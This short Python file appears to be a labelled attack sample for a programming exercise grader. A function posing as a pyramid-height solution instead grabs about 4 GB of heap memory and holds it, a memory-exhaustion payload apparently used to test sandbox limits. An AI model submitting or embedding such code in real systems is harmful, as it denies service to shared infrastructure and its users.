"""Takes heap memory until none is left, and keeps it."""
# attack: week=03 exercise=pyramid
held = []


def calculate_pyramid_height(number_of_blocks):
    for _ in range(400):
        held.append(bytearray(10 << 20))
    return len(held)
